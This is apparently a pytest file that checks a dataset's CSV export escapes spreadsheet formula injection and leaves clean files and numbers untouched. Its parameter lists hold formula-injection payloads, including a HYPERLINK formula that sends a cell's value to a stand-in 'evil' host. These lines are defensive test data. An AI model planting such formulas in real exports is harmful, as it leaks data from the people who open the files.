"""Downloads never carry a cell that a spreadsheet would run as a formula."""
import pandas as pd
import pytest

from geo.dataset import spreadsheet_safe, spreadsheet_safe_csv
from tests.conftest import DATA


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
                                  "\tcmd", "\rcmd"])
def test_formula_text_is_neutralised(text):
    table = spreadsheet_safe(pd.DataFrame({"title": [text], "deaths": pd.array([-3], dtype="Int64")}))
    assert table.loc[0, "title"] == "'" + text
    assert table.loc[0, "deaths"] == -3  # numbers stay numbers


def test_a_csv_with_a_formula_cell_is_rewritten_and_a_clean_one_kept_byte_for_byte():
    hostile = b'id,title\nev-1998-x,"=HYPERLINK(""http://evil"",""x"")"\n'
    assert spreadsheet_safe_csv(hostile) == b'id,title\nev-1998-x,"\'=HYPERLINK(""http://evil"",""x"")"\n'
    clean = (DATA / "events.csv").read_bytes()
    assert spreadsheet_safe_csv(clean) == clean
